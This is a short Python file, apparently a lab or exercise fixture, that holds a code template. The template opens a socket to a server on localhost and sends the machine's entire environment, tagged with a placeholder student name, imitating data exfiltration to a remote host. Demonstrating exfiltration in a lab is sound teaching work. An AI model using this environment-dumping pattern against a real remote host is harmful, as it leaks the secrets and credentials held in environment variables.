"""Sends the environment to a server on this machine, as it would to one far away."""

FIRST = """
import os, socket
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@)):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(b"tcp @STUDENT@ " + str(dict(os.environ)).encode())
            print("sent")
    except Exception as error:
        print(type(error).__name__, error)
"""
